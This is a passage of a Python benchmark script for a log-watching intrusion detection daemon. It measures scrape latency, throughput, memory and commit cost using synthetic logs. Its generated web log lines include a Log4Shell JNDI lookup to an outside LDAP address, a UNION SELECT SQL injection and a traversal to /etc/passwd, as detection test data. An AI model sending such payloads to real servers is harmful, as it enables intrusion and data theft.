                     f"{pct(warm, 99) * 1e3:.2f}", f"{max(warm) * 1e3:.2f}", f"{warm_cpu * 1e3:.2f}"))
    print(fmt.format(f"after a commit: counted in the store ({args.cold_scrapes} scrapes)",
                     f"{pct(cold, 50) * 1e3:.2f}", f"{pct(cold, 99) * 1e3:.2f}", f"{max(cold) * 1e3:.2f}",
                     f"{statistics.median(cold_cpu) * 1e3:.2f}"))
    per_15s = statistics.median(cold_cpu) / 15
    print(f"  worst case at the center's 15 s interval (every scrape after a commit): "
          f"{per_15s * 100:.3f} % of one CPU")
    print()

    # Throughput: the bench corpus pushed into the same daemon (year still in its store), with
    # no scrapes and with scrapes every SCRAPE_INTERVAL s, alternating.
    with open(os.path.join(args.corpus, "corpus.json")) as f:
        manifest = json.load(f)
    src = {"auth": os.path.join(args.corpus, "auth.log"), "web": os.path.join(args.corpus, "access.log")}
    nbytes = sum(os.path.getsize(p) for p in src.values())
    nlines = manifest["files"]["auth.log"]["lines"] + manifest["files"]["access.log"]["lines"]
    runs = {0: [], args.scrape_interval: []}
    for r in range(args.runs):
        for interval in (0, args.scrape_interval):
            sizes = {n: os.path.getsize(d.logs[n]) + os.path.getsize(p) for n, p in src.items()}
            scraper = Scraper(port, interval) if interval else None
            cpu0, t0 = d.cpu(), time.time()
            if scraper:
                scraper.start()
            copy_interleaved([(src[n], d.logs[n]) for n in src])
            _, last_us, _ = wait_caught_up(d, sizes, args.catchup_timeout)
            wall, cpu = last_us / 1e6 - t0, d.cpu() - cpu0
            n_scrapes = 0
            if scraper:
                scraper.stop_flag.set()
                scraper.join()
                n_scrapes = len(scraper.times)
            runs[interval].append({"wall": wall, "cpu": cpu, "scrapes": n_scrapes})
            log(f"  run {r + 1}, scrapes every {interval or '-'} s: {wall:.3f} s wall, {cpu:.2f} s CPU, "
                f"{n_scrapes} scrapes")
    finish_daemon(d)
    out["scrape"]["throughput"] = {"bytes": nbytes, "lines": nlines, "interval": args.scrape_interval,
                                   "runs": {str(k): v for k, v in runs.items()}}
    print(f"  throughput of the same daemon on the bench corpus ({nbytes / 1e6:.1f} MB, {nlines:,} lines), "
          f"best of {args.runs}:")
    fmt = "    {:<34} {:>8} {:>8} {:>11} {:>7} {:>8}"
    print(fmt.format("", "wall s", "MB/s", "lines/s", "CPU s", "scrapes"))
    best = {}
    for interval, label in ((0, "no scrapes"), (args.scrape_interval, f"a scrape every {args.scrape_interval} s")):
        b = min(runs[interval], key=lambda x: x["wall"])
        c = min(x["cpu"] for x in runs[interval])
        best[interval] = (b["wall"], c)
        print(fmt.format(label, f"{b['wall']:.3f}", f"{nbytes / 1e6 / b['wall']:.1f}", f"{nlines / b['wall']:,.0f}",
                         f"{c:.2f}", sum(x["scrapes"] for x in runs[interval])))
    (w0, c0), (w1, c1) = best[0], best[args.scrape_interval]
    print(f"    with scrapes: {(w1 / w0 - 1) * 100:+.1f} % wall, {(c1 / c0 - 1) * 100:+.1f} % CPU "
          f"(scrapes {15 / args.scrape_interval:.0f}x as often as the center's 15 s)")
    print()

# ------------------------------------------------------------------------------------- push

def make_push_corpus(args, templates):
    """Two files totalling args.push_mb MB, time stamped over args.push_span s ending at creation:
    access.log (80 %): benign lines, 5 % web attacks (log4shell, SQLi, traversal) from a pool of
    WEB_POOL addresses; auth.log (20 %): benign syslog, 40 % failed passwords and 10 % invalid
    users from a pool of SSH_POOL addresses drawn at random (mostly 1-2 tries each: keys that
    count towards thresholds and fill the detector's key table). Reused while the parameters
    are the same."""
    outdir = os.path.join(args.bench_dir, "push")
    os.makedirs(outdir, exist_ok=True)
    params = {"version": PUSH_VERSION, "mb": args.push_mb, "web_pool": args.web_pool, "ssh_pool": args.ssh_pool,
              "span": args.push_span, "templates": len(templates)}
    manifest = os.path.join(outdir, "push.json")
    files = {"auth": os.path.join(outdir, "auth.log"), "web": os.path.join(outdir, "access.log")}
    try:
        with open(manifest) as f:
            old = json.load(f)
        if old["params"] == params and all(os.path.getsize(files[k]) == old["bytes"][k] for k in files):
            log(f"push corpus: reusing {outdir}")
            return files, old
    except (OSError, ValueError, KeyError):
        pass
    log(f"push corpus: writing {args.push_mb} MB to {outdir}")
    t_start = time.time()
    target = {"web": int(args.push_mb * 1e6 * 0.8), "auth": int(args.push_mb * 1e6 * 0.2)}
    end = int(time.time())
    begin = end - args.push_span
    rnd = random.Random(20261123)

    users = ["admin", "oracle", "test", "user", "postgres", "git", "ubuntu", "pi", "guest", "ftp"]
    web_attacks = [
        '"GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 200 512',
        '"GET /news.php?id=-1+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version()),4-- HTTP/1.1" 200 512',
        '"GET /download.php?file=../../../../etc/passwd HTTP/1.1" 404 512',
    ]
    counts = {}
    for name in ("web", "auth"):
        n = lines = attacks = k = 0
        with open(files[name] + ".tmp", "w", encoding="latin-1", newline="") as f:
            while n < target[name]:
                t = begin + args.push_span * n // target[name]
                parts = []
                if name == "web":
                    stamp = clf_stamp(t)
                    for _ in range(4096):
                        r = rnd.random()
                        if r < 0.05:
                            ip = web_ip(rnd.randrange(args.web_pool))
                            parts.append(f'{ip} - - [{stamp}] {web_attacks[int(r * 60)]} "-" "{UA}"\n')
                            attacks += 1
                        else:
                            pre, post = templates[k % len(templates)]
                            k += 1
                            parts.append(pre + stamp + post)
                else:
                    stamp = syslog_stamp(t)
                    for _ in range(4096):
                        r = rnd.random()
                        k += 1
                        head = f"{stamp} web01 sshd[{1000 + k % 30000}]: "
                        if r < 0.4:
                            parts.append(f"{head}Failed password for invalid user {users[k % 10]} from "
                                         f"{ssh_ip(rnd.randrange(args.ssh_pool))} port {1024 + k % 60000} ssh2\n")
                            attacks += 1
                        elif r < 0.5:
                            parts.append(f"{head}Invalid user {users[k % 10]} from "
                                         f"{ssh_ip(rnd.randrange(args.ssh_pool))} port {1024 + k % 60000}\n")
                            attacks += 1
                        elif r < 0.75:
                            parts.append(f"{stamp} web01 CRON[{1000 + k % 30000}]: (root) CMD "
                                         f"(   cd / && run-parts --report /etc/cron.hourly)\n")
                        else:
                            parts.append(f"{head}Accepted publickey for deploy from 10.1.{k % 250}.{k % 200 + 1} "
                                         f"port {1024 + k % 60000} ssh2: ED25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG\n")
                text = "".join(parts)
                f.write(text)
                n += len(text)
                lines += len(parts)
        os.replace(files[name] + ".tmp", files[name])
        counts[name] = {"bytes": n, "lines": lines, "attack_lines": attacks}
    meta = {"params": params, "bytes": {k: v["bytes"] for k, v in counts.items()}, "files": counts,
            "begin": begin, "end": end}
    with open(manifest, "w") as f:
        json.dump(meta, f, indent=2)
    log(f"push corpus: done in {time.time() - t_start:.1f} s")
    return files, meta



def phase_push(args, out):
    templates = benign_templates(args)
    files, meta = make_push_corpus(args, templates)
    sizes = meta["bytes"]
    total = sum(sizes.values())
    nlines = sum(v["lines"] for v in meta["files"].values())
    for p in files.values():
        with open(p, "rb") as f:
            while f.read(1 << 24):
                pass
    d = start_daemon(args, "push", [("auth", "syslog"), ("web", "apache")],
                     {"max_keys": args.max_keys} if args.max_keys else None)
    la = loadavg()
    log(f"push: {total / 1e6:.0f} MB as fast as possible (load average {la})")
    samples = []  # (t, VmRSS KB, VmHWM KB, committed bytes)
    stop = threading.Event()
    prog = [0]

    def sampler():
        k = 0
        while not stop.is_set() and d.alive():
            try:
                if k % 5 == 0:
                    offs, _, _ = d.progress()
                    prog[0] = sum(offs.values())
                rss, hwm = d.mem()
            except Exception:  # the daemon or its database went away (stopping, interrupted)
                break
            samples.append((time.time(), rss, hwm, prog[0]))
            k += 1
            time.sleep(0.05)

    th = threading.Thread(target=sampler, daemon=True)
    perf = None
    written = {}
    t0 = time.time()
    cpu0 = d.cpu()
    sched0 = d.sched()
    io0 = d.io_written()
    th.start()
    writer = threading.Thread(target=lambda: written.update(
        n=copy_interleaved([(files[n], d.logs[n]) for n in ("auth", "web")]), t=time.time()))
    writer.start()
    if args.perf:
        perf_data = os.path.join(args.results, "perf.data")
        perf = subprocess.Popen(["perf", "record", "-F", "499", "--call-graph", "dwarf,16384", "-o", perf_data, "-p", str(d.proc.pid),
                                 "--", "sleep", str(args.perf)], stdout=subprocess.DEVNULL,
                                stderr=open(os.path.join(args.results, "perf.err"), "wb"))
    writer.join()
    t_w = written["t"]
    offs, commits_w, _ = d.progress()
    behind_w = total - sum(offs.values())
    # STATUS comes every 5 s: only one sent since the writer began says anything.
    status_behind = d.status_field(r"(\d+) bytes behind") if d.statuses and d.statuses[-1][0] > t0 else None
    log(f"  writer done after {t_w - t0:.1f} s; {behind_w / 1e6:.1f} MB not yet committed")
    try:
        seen, last_us, commits = wait_caught_up(d, sizes, args.catchup_timeout, every=0.05)
        caught = True
    except TimeoutError as e:
        log(f"  {e}")
        seen, last_us, commits = time.time(), None, d.progress()[1]
        caught = False
    t_end = last_us / 1e6 if last_us else seen
    cpu = d.cpu() - cpu0
    io1 = d.io_written()
    io_w = io1 - io0 if io0 is not None and io1 is not None else None
    sched1 = d.sched()
    on_cpu = runq = None
    if sched0 and sched1:
        on_cpu, runq = sched1[0] - sched0[0], sched1[1] - sched0[1]
    time.sleep(2.0)
    idle_rss, hwm = d.mem()
    rollup = d.smaps()
    stop.set()
    th.join()
    if perf is not None:
        perf.wait()
    full = None
    if caught and args.full_lat_lines:
        # Latency again, now that the key table is full: each commit carries the whole detector
        # state. The lines carry the push corpus's last time, so no key expires meanwhile.
        log(f"  latency with the key table full: {args.full_lat_lines} lines {args.full_lat_spacing * 1000:.0f} ms apart")
        fd = os.open(d.logs["web"], os.O_WRONLY | os.O_APPEND)
        try:
            c0, w0 = d.cpu(), time.time()
            rows, missed = latency_series(d, fd, IpCounter(), args.full_lat_lines, args.full_lat_spacing,
                                          "full key table", timeout=30, line_time=meta["end"])
            share = (d.cpu() - c0) / (time.time() - w0)
        finally:
            os.close(fd)
        if rows:
            full = dict(summarize_latency(rows), missed=missed, daemon_cpu_share=share)
        _, hwm = d.mem()
    state = d.query("SELECT state FROM detector_state")[0][0]
    incidents = d.query("SELECT count(*) FROM incidents")[0][0]
    finish_daemon(d)
    db_bytes = sum(os.path.getsize(os.path.join(d.dir, "state", f)) for f in os.listdir(os.path.join(d.dir, "state")))
    try:
        snap = json.loads(state)["snapshot"]
        keys, evicted = len(snap.get("keys", [])), snap.get("keys_evicted")
    except (ValueError, KeyError, TypeError):
        keys = evicted = None

    # RSS when 10 %, 25 %, ... of the bytes were committed
    marks = []
    for frac in (0.1, 0.25, 0.5, 0.75, 1.0):
        s = next((s for s in samples if s[3] >= frac * total), None)
        if s:
            marks.append((frac, s[1], s[0] - t0))
    later = [s[1] for s in samples if s[3] >= 0.25 * total and s[0] <= t_end]
    steady = statistics.median(later) if later else None
    lo_hi = (min(later), max(later)) if later else None
    res = {"bytes": total, "lines": nlines, "writer_s": t_w - t0, "behind_at_writer_end": behind_w,
           "status_bytes_behind": status_behind, "caught_up": caught, "total_s": t_end - t0,
           "catchup_s": t_end - t_w, "cpu_s": cpu, "commits": commits, "hwm_kb": hwm, "steady_rss_kb": steady,
           "idle_rss_kb": idle_rss, "rss_marks": marks, "state_bytes": len(state), "keys": keys,
           "keys_evicted": evicted, "incidents": incidents, "db_bytes": db_bytes, "load": la,
           "max_keys": args.max_keys or None, "full_table_latency": full, "rss_range_kb": lo_hi,
           "pipeline_on_cpu": on_cpu, "pipeline_runq": runq, "smaps_rollup_idle": rollup, "io_write_bytes": io_w,
           "samples": [(round(s[0] - t0, 3), s[1], s[3]) for s in samples]}
    out["push"] = res
    print(f"3. Memory: {total / 1e6:.0f} MB ({nlines:,} lines: {meta['files']['web']['attack_lines']:,} web attacks from "
          f"{args.web_pool:,} addresses, {meta['files']['auth']['attack_lines']:,} SSH failures from "
          f"{args.ssh_pool:,}) appended as fast as possible")
    print()
    print(f"  max_keys {args.max_keys or 'not set (the daemon default)'}")
    print(f"  peak RSS (VmHWM)            {hwm / 1024:8.1f} MB")
    if steady:
        print(f"  steady RSS (median VmRSS)   {steady / 1024:8.1f} MB   (VmRSS every 50 ms from 25 % committed to caught up: "
              f"{lo_hi[0] / 1024:.1f} to {lo_hi[1] / 1024:.1f} MB)")
    print(f"  RSS idle after catching up  {idle_rss / 1024:8.1f} MB"
          + (f"   (anonymous {rollup['Anonymous'] / 1024:.1f} MB, file-backed and shared "
             f"{(rollup['Rss'] - rollup['Anonymous']) / 1024:.1f} MB)" if 'Anonymous' in rollup and 'Rss' in rollup else ""))
    print("  VmRSS as the committed share grew: " + ", ".join(
        f"{int(f * 100)} %: {r / 1024:.1f} MB ({t:.1f} s)" for f, r, t in marks))
    print(f"  writer: {total / 1e6:.0f} MB in {t_w - t0:.1f} s ({total / 1e6 / (t_w - t0):.0f} MB/s); "
          f"at its end {behind_w / 1e6:.1f} MB were not committed yet"
          + (f" (last STATUS: {status_behind / 1e6:.1f} MB behind)" if status_behind is not None else ""))
    if caught:
        print(f"  caught up {t_end - t_w:.1f} s after the writer ended, {t_end - t0:.1f} s after it began: "
              f"{total / 1e6 / (t_end - t0):.1f} MB/s, {nlines / (t_end - t0):,.0f} lines/s "
              f"({cpu:.1f} s CPU: {nlines / cpu:,.0f} lines/CPU-s)")
    else:
        print(f"  NOT caught up within {args.catchup_timeout} s of the writer's end")
    if on_cpu is not None:
        print(f"  pipeline thread until caught up ({t_end - t0:.1f} s): {on_cpu:.1f} s on a CPU, {runq:.1f} s waiting for a CPU "
              f"(machine load), {max(0.0, t_end - t0 - on_cpu - runq):.1f} s blocked (fsync, I/O)")
    print(f"  {commits} commits ({commits / (t_end - t0):.1f}/s, {(t_end - t0) / max(commits, 1) * 1000:.0f} ms apart); detector state {len(state) / 1e6:.1f} MB at the end "
          f"({keys} keys, {evicted} evicted); {incidents:,} incidents; database + WAL {db_bytes / 1e6:.0f} MB")
    if io_w is not None:
        print(f"  the daemon wrote {io_w / 1e6:,.0f} MB to storage until caught up (/proc/PID/io write_bytes): "
              f"{io_w / total:.1f} bytes per byte of log")
    if full:
        print(f"  latency with the key table full, {full['n']} lines {args.full_lat_spacing * 1000:.0f} ms apart: committed "
              f"median {full['commit_median']:.0f} ms, p99 {full['commit_p99']:.0f} ms; visible median "
              f"{full['seen_median']:.0f} ms, p99 {full['seen_p99']:.0f} ms; daemon used "
              f"{full['daemon_cpu_share'] * 100:.0f} % of a CPU meanwhile")
    print(f"  load average at the start: {la}")
    if args.perf:
        print(f"  perf profile of the first {args.perf} s: {args.results}/perf.txt")
    print()


# ------------------------------------------------------------------- state: shared helpers
#
# The phases below (keys, amplification, memory, catchup, import) measure what the detector's
# persisted state costs: per commit, per byte of log, in memory, on a restart and on a backfill.
# Each prints its figures beside a reference measured in the same run.

STATE_PHASES = ["keys", "amplification", "memory", "catchup", "import"]
COMMIT_HIST = "canhgac_store_commit_duration_seconds"
KEYS_GAUGE = "canhgac_detector_keys"
EVICTED = "canhgac_detector_keys_evicted_total"


def metrics(port):
    return parse_metrics(scrape(port)[1].decode("utf-8", "replace"))


def metrics_settled(d, port, timeout=30):
    """/metrics once it accounts for every commit the store shows (for a daemon whose store it
    created). A commit is visible to readers before Store::commit returns (SQLite's automatic
    WAL checkpoint runs after it, and with a large state takes long), and the daemon updates its
    counters, the histogram and the keys gauge only then: a scrape right after catching up can
    still show the previous commit's figures."""
    deadline = time.time() + timeout
    while True:
        m = metrics(port)
        _, commits, _ = d.progress()
        if m.get("canhgac_store_commits_total", 0) >= commits or time.time() > deadline:
            return m
        time.sleep(0.02)


def commit_hist(m):
    """(count, sum s, [(le, cumulative count)]) of the daemon's commit-duration histogram."""
    head = COMMIT_HIST + '_bucket{le="'
    buckets = sorted((float(k[len(head):-2]), v) for k, v in m.items() if k.startswith(head))
    return m.get(COMMIT_HIST + "_count", 0.0), m.get(COMMIT_HIST + "_sum", 0.0), buckets


def hist_bound(h0, h1, q):
    """Upper bound of the bucket holding quantile q of the commits between two scrapes; None
    without commits. The buckets are coarse (…, 0.25, 0.5, 1, 2.5, 5 s): a bound, not a value."""
    n = h1[0] - h0[0]
    if n <= 0:
        return None
    before = dict(h0[2])
    for le, c in h1[2]:
        if c - before.get(le, 0.0) >= q * n:
            return le
    return float("inf")


class MetricsSampler(threading.Thread):
    """Scrapes /metrics every `interval` s and keeps (time, commits, commit seconds summed,
    live keys). Between two scrapes with one commit, the sum's difference IS that commit's
    duration, which the histogram's buckets cannot give; commits sharing an interval get their
    mean."""

    def __init__(self, d, port, interval=0.25):
        super().__init__(daemon=True)
        self.d, self.port, self.interval = d, port, interval
        self.samples = []
        self.first = self.last = None
        self.stop_flag = threading.Event()

    def take(self, settled=False):
        m = metrics_settled(self.d, self.port) if settled else metrics(self.port)
        self.last = m
        if self.first is None:
            self.first = m
        c, s, _ = commit_hist(m)
        self.samples.append((time.time(), c, s, m.get(KEYS_GAUGE)))
        return m

    def run(self):
        while not self.stop_flag.is_set():
            try:
                self.take()
            except Exception:  # daemon gone or slow: the last good sample stands
                pass
            self.stop_flag.wait(self.interval)

    def finish(self):
        self.stop_flag.set()
        self.join()
        self.take(settled=True)

    def durations(self):
        out = []
        for (_, c0, s0, _), (_, c1, s1, _) in zip(self.samples, self.samples[1:]):
            n = int(round(c1 - c0))
            if n > 0:
                out += [(s1 - s0) / n] * n
        return out


def commit_figures(sampler):
    """Mean (exact: sum / count), p50 and p99 (per commit, from the scrape intervals) and the p99
    bucket bound of the histogram, in seconds, over the sampler's lifetime."""
    h0, h1 = commit_hist(sampler.first), commit_hist(sampler.last)
    n = h1[0] - h0[0]
    per = sampler.durations()
    return {"commits": int(n), "mean_s": (h1[1] - h0[1]) / n if n else None,
            "p50_s": pct(per, 50) if per else None, "p99_s": pct(per, 99) if per else None,
            "max_s": max(per) if per else None, "p99_bucket_le": hist_bound(h0, h1, 0.99), "per_commit_s": per}


def state_blob(d):
    """Bytes of the pages holding the detector's state in the store: every table named detector_*
    and its indexes (dbstat), so that a whole-state blob (one detector_state row, rewritten by
    every commit) and per-key rows (a detector_keys table) are counted alike. None if the
    store has neither or SQLite lacks dbstat."""
    try:
        r = d.query("SELECT SUM(pgsize) FROM dbstat WHERE name IN "
                    "(SELECT name FROM sqlite_master WHERE tbl_name LIKE 'detector%')")
    except sqlite3.Error:
        return None
    return r[0][0] if r and r[0][0] else None


def table_bytes(db_path):
    """{table or index: bytes of its pages} of a store, from SQLite's dbstat (read-only)."""
    try:
        c = sqlite3.connect(f"file:{db_path}?mode=ro", uri=True)
        try:
            return dict(c.execute("SELECT name, SUM(pgsize) FROM dbstat GROUP BY name"))
        finally:
            c.close()
    except sqlite3.Error:
        return {}


def ssh_failure(stamp, j, k):
    """A failed password from address j: one attempt, below every threshold on its own."""
    return (f"{stamp} web01 sshd[{1000 + k % 30000}]: Failed password for invalid user admin from {ssh_ip(j)} "
            f"port {1024 + k % 60000} ssh2\n")


def benign_auth(stamp, k):
    if k % 2:
        return f"{stamp} web01 CRON[{1000 + k % 30000}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)\n"
    return (f"{stamp} web01 sshd[{1000 + k % 30000}]: Accepted publickey for deploy from 10.1.{k % 250}.{k % 200 + 1} "
            f"port {1024 + k % 60000} ssh2: ED25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG\n")


def sqli_line(ip, i, t):
    return (f'{ip} - - [{clf_stamp(t)}] "GET /news.php?id=-{i}+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version()),4-- '
            f'HTTP/1.1" 200 512 "-" "{UA}"\n')


def append(path, text):
    data = text.encode("latin-1")
    fd = os.open(path, os.O_WRONLY | os.O_APPEND)
    try:
        while data:
            data = data[os.write(fd, data):]
    finally:
        os.close(fd)


def append_paced(path, rate, seconds, line):
    """Appends line(n) for n = 0, 1, ... to path, `rate` lines a second, for `seconds`. Returns how
    many lines it appended and their length."""
    n = sent = 0
    t0 = time.time()
    while time.time() - t0 < seconds:
        text = line(n)
        append(path, text)
        sent += len(text)
        n += 1
        pause = t0 + n / rate - time.time()
        if pause > 0:
            time.sleep(pause)
    return n, sent


def sizes_of(d):
    return {n: os.path.getsize(p) for n, p in d.logs.items()}


def fill_ssh(d, port, target, timeout):
    """SSH failures, one per address, until the detector tracks about `target` keys (one line
    opens a key in every rule that counts it, so keys per address are measured on a first
    chunk, not assumed). Returns (addresses, live keys, seconds)."""
    t0 = time.time()
    first = min(100, target)
    stamp = syslog_stamp(time.time())
    append(d.logs["auth"], "".join(ssh_failure(stamp, j, j) for j in range(first)))
    wait_caught_up(d, sizes_of(d), 120)
    keys0 = metrics_settled(d, port).get(KEYS_GAUGE)
    per = max(1.0, keys0 / first) if keys0 else 1.0
    n = max(first, int(round(target / per)))
    for a in range(first, n, 20000):
        stamp = syslog_stamp(time.time())
        append(d.logs["auth"], "".join(ssh_failure(stamp, j, j) for j in range(a, min(n, a + 20000))))
    wait_caught_up(d, sizes_of(d), 600)
    return n, metrics_settled(d, port).get(KEYS_GAUGE), time.time() - t0


class IncidentWatcher(threading.Thread):
    """Polls the store (read-only, every `every` s) for incidents added since it started, and
    keeps when each source address's first one became visible and its created_us."""

    def __init__(self, d, every=0.002):
        super().__init__(daemon=True)
        self.d, self.every = d, every
        self.last_id = d.query("SELECT COALESCE(MAX(id), 0) FROM incidents")[0][0]
        self.seen = {}
        self.stop_flag = threading.Event()

    def run(self):
        while not self.stop_flag.is_set():
            try:
                rows = self.d.query("SELECT id, src_ip, created_us FROM incidents WHERE id > ? ORDER BY id",
                                    (self.last_id,))
            except sqlite3.Error:
                rows = []
            except AttributeError:  # the daemon was stopped under us (interrupted run)
                return
            t = now_us()
            for i, ip, created in rows:
                self.last_id = i
                self.seen.setdefault(ip, (t, created))
            time.sleep(self.every)


class MixWriter(threading.Thread):
    """`rate` lines/s for `seconds` s, in 10 ms ticks, stamped now: per 100 lines one attack
    that opens an incident at once (Log4Shell or UNION SELECT from a fresh address; its write
    time kept), one SSH failure from an already tracked address (round robin over `touch`
    addresses, so no key nears its threshold), 18 benign auth lines (19 without tracked
    addresses), 80 benign access lines."""

    def __init__(self, d, templates, ips, rate, seconds, touch=0):
        super().__init__(daemon=True)
        self.d, self.templates, self.ips = d, templates, ips
        self.rate, self.seconds, self.touch = rate, seconds, touch
        self.sent = {}  # ip -> write time, µs
        self.bytes = self.lines = 0

    def run(self):
        fa = os.open(self.d.logs["auth"], os.O_WRONLY | os.O_APPEND)
        fw = os.open(self.d.logs["web"], os.O_WRONLY | os.O_APPEND)
        k = touched = 0
        t0 = time.time()
        try:
            while True:
                now = time.time()
                if now - t0 >= self.seconds:
                    break
                due = int(self.rate * (now - t0)) - k
                web, auth, attacks = [], [], []
                clf, sys_ = clf_stamp(now), syslog_stamp(now)
                for _ in range(max(0, due)):
                    k += 1
                    r = k % 100
                    if r == 50:
                        ip = self.ips.next()
                        web.append(attack_line(ip, self.ips.n, now))
                        attacks.append(ip)
                    elif r == 25 and self.touch:
                        auth.append(ssh_failure(sys_, touched % self.touch, 7 + touched))
                        touched += 1
                    elif r % 5 == 0:
                        auth.append(benign_auth(sys_, k))
                    else:
                        pre, post = self.templates[k % len(self.templates)]
                        web.append(pre + clf + post)
                for fd, part in ((fa, auth), (fw, web)):
                    if not part:
                        continue
                    data = "".join(part).encode("latin-1")
                    self.bytes += len(data)
                    self.lines += len(part)
                    t_w = now_us()
                    while data:
                        data = data[os.write(fd, data):]
                    if fd == fw:
                        for ip in attacks:
                            self.sent[ip] = t_w
                time.sleep(0.01)
        finally:
            os.close(fa)
            os.close(fw)


def fmt_ms(s):
    return "-" if s is None else ("inf" if s == float("inf") else f"{s * 1000:.1f}")


def fmt_mb(b):
    return "-" if b is None else f"{b / 1e6:,.1f}"


def ratio(a, b, spec=".1f"):
    return "-" if a is None or not b else format(a / b, spec)


# ------------------------------------------------------------------------------------- keys

def phase_keys(args, out):
    """Commit cost against the number of live detector keys."""
    templates = benign_templates(args)
    counts = [int(x) for x in args.keys.split(",") if x.strip()]
    rows = []
    for n in counts:
        d = start_daemon(args, f"keys-{n}", [("auth", "syslog"), ("web", "apache")], {"max_keys": args.keys_max_keys})
        port = http_port(d)
        addrs, keys, fill_s = (0, metrics(port).get(KEYS_GAUGE), 0.0)
        if n:
            log(f"keys {n:,}: filling the key table (load average {loadavg()})")
            addrs, keys, fill_s = fill_ssh(d, port, n, args.catchup_timeout)
        time.sleep(1.0)  # past the pacing gap the fill's last commit set
        la = loadavg()
        log(f"keys {n:,}: {int(keys or 0):,} live keys; {args.keys_rate:g} lines/s for {args.keys_seconds:g} s "
            f"(load average {la})")
        sampler = MetricsSampler(d, port)
        sampler.take(settled=True)
        watcher = IncidentWatcher(d)
        io0, cpu0, _, c0, _ = d.io(), d.cpu(), *d.progress()
        writer = MixWriter(d, templates, IpCounter(), args.keys_rate, args.keys_seconds, touch=addrs)
        t0 = time.time()
        sampler.start()
        watcher.start()
        writer.start()
        writer.join()
        try:
            wait_caught_up(d, sizes_of(d), args.catchup_timeout)
            caught = True
        except TimeoutError as e:
            log(f"  {e}")
            caught = False
        deadline = time.time() + 5
        while time.time() < deadline and not all(ip in watcher.seen for ip in writer.sent):
            time.sleep(0.01)
        watcher.stop_flag.set()
        watcher.join()
        sampler.finish()
        io1, cpu1, _, c1, _ = d.io(), d.cpu(), *d.progress()
        el = time.time() - t0
        keys_end = sampler.last.get(KEYS_GAUGE)
        blob = state_blob(d)  # as the last commits of the load wrote it
        finish_daemon(d)
        lat = [(watcher.seen[ip][1] - t_w, watcher.seen[ip][0] - t_w) for ip, t_w in writer.sent.items()
               if ip in watcher.seen]
        missed = len(writer.sent) - len(lat)
        written = io1.get("write_bytes", 0) - io0.get("write_bytes", 0) if io0 and io1 else None
        cf = commit_figures(sampler)
        commits = c1 - c0
        row = {"target": n, "addresses": addrs, "keys": keys, "keys_end": keys_end, "fill_s": fill_s,
               "state_bytes": blob, "commits": commits, "commit": cf, "written": written,
               "cancelled": (io1.get("cancelled_write_bytes", 0) - io0.get("cancelled_write_bytes", 0)) if io0 and io1 else None,
               "log_bytes": writer.bytes, "lines": writer.lines, "cpu_share": (cpu1 - cpu0) / el, "caught_up": caught,
               "attacks": len(writer.sent), "missed": missed, "load": la,
               "commit_ms": [c / 1000 for c, _ in lat], "visible_ms": [v / 1000 for _, v in lat]}
        rows.append(row)
        log(f"  {commits} commits, mean {fmt_ms(cf['mean_s'])} ms; {fmt_mb(written)} MB written for "
            f"{writer.bytes / 1e6:.1f} MB of log; {len(lat)} attack lines stored")
    out["keys"] = {"rate": args.keys_rate, "seconds": args.keys_seconds, "max_keys": args.keys_max_keys, "rows": rows}

    print(f"5. Commits against live detector keys: {args.keys_rate:,g} lines/s for {args.keys_seconds:g} s "
          f"(1 % attacks opening an incident from a fresh address, 1 % SSH failures on tracked addresses, 18 % benign "
          f"auth, 80 % benign access; stamped now), after a fill of SSH failures from distinct addresses, one each "
          f"(below the threshold: keys stay live and counting); [pipeline] max_keys = {args.keys_max_keys:,}")
    print("   keys: canhgac_detector_keys before the load; commit times from /metrics (mean = sum / count; p50 and p99 per "
          "commit from the sum's steps between scrapes 250 ms apart; 'hist' = the histogram bucket holding p99);")
    print("   written = /proc/PID/io write_bytes; ampl. = written / log bytes appended; latency = write(2) of the attack "
          "line to its incident's row (committed = created_us; visible = seen by a reader polling every 2 ms).")
    print("   The first row, with no fill, is the reference ('x ref': ampl. / its ampl.); state kB: the store's pages of "
          "detector_* tables after the load (dbstat: the header row every commit rewrites and the key rows appended for the keys that changed).")
    print()
    fmt = "  {:>8} {:>8} {:>7} {:>9} {:>8} {:>8} {:>7} {:>10} {:>8} {:>9} {:>8} {:>6} {:>15} {:>15} {:>6}"
    print(fmt.format("keys", "state kB", "commits", "mean ms", "p50 ms", "p99 ms", "hist", "B/commit", "written",
                     "log MB", "ampl.", "x ref", "committed p50/99", "visible p50/99", "CPU %"))
    ref = rows[0] if rows else None
    for r in rows:
        cf = r["commit"]
        bpc = r["written"] / r["commits"] if r["written"] is not None and r["commits"] else None
        amp = r["written"] / r["log_bytes"] if r["written"] is not None and r["log_bytes"] else None
        ref_amp = ref["written"] / ref["log_bytes"] if ref and ref["written"] is not None and ref["log_bytes"] else None
        cl = f"{statistics.median(r['commit_ms']):.0f} / {pct(r['commit_ms'], 99):.0f}" if r["commit_ms"] else "-"
        vl = f"{statistics.median(r['visible_ms']):.0f} / {pct(r['visible_ms'], 99):.0f}" if r["visible_ms"] else "-"
        print(fmt.format(f"{int(r['keys'] or 0):,}", "-" if r["state_bytes"] is None else f"{r['state_bytes'] / 1e3:,.0f}",
                         r["commits"], fmt_ms(cf["mean_s"]), fmt_ms(cf["p50_s"]), fmt_ms(cf["p99_s"]),
                         "<=" + (fmt_ms(cf["p99_bucket_le"]) if cf["p99_bucket_le"] is not None else "-"),
                         "-" if bpc is None else f"{bpc / 1e3:,.0f} kB", fmt_mb(r["written"]) + " MB",
                         f"{r['log_bytes'] / 1e6:.2f}", "-" if amp is None else f"{amp:,.1f}",
                         ratio(amp, ref_amp), cl, vl, f"{r['cpu_share'] * 100:.0f}"))
    for r in rows:
        notes = []
        if r["missed"]:
            notes.append(f"{r['missed']} of {r['attacks']} attack lines had no incident 5 s after catching up")
        if not r["caught_up"]:
            notes.append("NOT caught up")
        if notes:
            print(f"  {int(r['keys'] or 0):,} keys: " + "; ".join(notes))
    for r in rows:
        print(f"  {int(r['keys'] or 0):,} keys: " + (f"fill of {r['addresses']:,} addresses took {r['fill_s']:.2f} s; "
                                                     if r["target"] else "no fill; ")
              + f"{int(r['keys_end'] or 0):,} keys at the end, {r['attacks']} attack lines")
    print(f"  load average at the start of each row: {', '.join(r['load'] for r in rows)}")
    print()


